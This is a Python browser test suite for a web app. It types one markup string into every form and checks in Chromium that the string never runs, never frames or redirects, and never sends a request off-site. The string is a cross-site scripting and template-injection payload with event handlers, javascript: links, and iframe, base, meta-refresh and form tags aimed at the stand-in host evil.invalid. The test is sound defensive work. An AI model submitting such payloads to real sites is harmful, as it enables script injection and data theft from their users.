"""Markup typed into every field of every form: in a real browser nothing of it runs, and no request leaves."""

import pytest

from s11 import create_app
from s11.config import read_settings
from s11.storage.database import db, say_only_reading
from s11.storage.tables import UserRow
from tests.journeys.conftest import Served
from tests.journeys.walker import Walker, sensible

EVIL = "evil.invalid"
TYPED = (
    f"""marked"'><img src=x onerror="window.hit=1"><script>window.hit=1</script><svg onload="window.hit=1">"""
    f"""<a href="javascript:window.hit=1">x</a><iframe src="//{EVIL}/"></iframe><link rel=stylesheet href="//{EVIL}/x.css">"""
    f"""<meta http-equiv=refresh content="0;url=//{EVIL}/"><base href="//{EVIL}/"><form action="//{EVIL}"><button>x</button></form>"""
    f"""</textarea></title></style><body onload="window.hit=1"><img src="//{EVIL}/pixel">{{{{7*7}}}}"""
)
WALKERS = ("lead.housing", "director.housing", "manager", "cmt", "admin")
NOT_SENT = {  # what would keep somebody from signing in later on, or asks for a password
    "account.end_other_sign_ins",
    "account.forgotten",
    "admin.end_sign_ins_of",
    "admin.remove_factors",
    "admin.security",
    "second_factor.app",
    "second_factor.confirm",
    "second_factor.new_passkey",
    "second_factor.sign_in_with_passkey",
    "admin.disable",
    "admin.enable",
    "admin.new_password",
    "security.change_password",
    "security.login",
}


@pytest.fixture(scope="module")
def marked(tmp_path_factory):
    """A demonstration in which somebody typed markup wherever anybody can."""
    served = Served(tmp_path_factory.mktemp("marked") / "data")
    yield served
    served.stop()


def walkers(app):
    """Yield (who, walker) of each; no context is held open, so that each request is one of its own."""
    for who in WALKERS:
        with app.app_context():
            somebody = db.session.query(UserRow).filter_by(email=f"{who}@example.org").one()
            walker = Walker(app, somebody)
        yield who, walker


def type_everywhere(folder):
    """Fill every form as everybody; return, by who it is, the pages on which it then stands."""
    app, sent = create_app(read_settings(folder)), 0
    say_only_reading(False)
    for _, walker in walkers(app):
        for form in walker.forms():
            if form.endpoint not in NOT_SENT and form.method == "post":
                assert walker.send(form, sensible(form, TYPED)).status < 500, form
                sent += 1
    found = {
        who: [at for at, page in walker.pages() if "marked" in page.text] for who, walker in walkers(app)
    }
    with app.app_context():
        db.engine.dispose()
    return sent, found


def test_markup_that_is_typed_everywhere_does_nothing_anywhere(chromium, marked):
    sent, found = type_everywhere(marked.folder)
    assert sent >= 20
    assert sum(map(len, found.values())) >= 15, found

    for who, addresses in found.items():
        context = chromium.new_context(base_url=marked.address)
        context.set_default_timeout(60_000)
        page, left, said = context.new_page(), [], []
        page.on(
            "request",
            lambda asked, left=left: (
                left.append(asked.url) if not asked.url.startswith((marked.address, "data:")) else None
            ),
        )
        page.on("dialog", lambda dialog, said=said: said.append(dialog.message))
        page.goto("/sign-in")
        page.get_by_label("Email address").fill(f"{who}@example.org")
        page.get_by_label("Password", exact=True).fill(marked.passwords[f"{who}@example.org"])
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_url(lambda address: "/sign-in" not in address)
        for address in addresses:
            page.goto(address)
            page.wait_for_load_state("networkidle")
            assert page.evaluate("window.hit") is None, (who, address)
            assert page.url.startswith(marked.address), (who, address)
            assert (
                page.evaluate("document.querySelectorAll('iframe, base, object, [onerror], [onload]').length")
                == 0
            ), address
        assert left == said == [], who
        context.close()


def test_no_page_can_be_put_into_a_frame_of_another(chromium, marked):
    context = chromium.new_context()
    page = context.new_page()
    page.set_content(f'<iframe src="{marked.address}/sign-in"></iframe>')
    page.wait_for_timeout(500)
    frame = page.frames[1]

    assert "Sign in" not in (frame.content() if frame.url.startswith("http") else "")
    context.close()
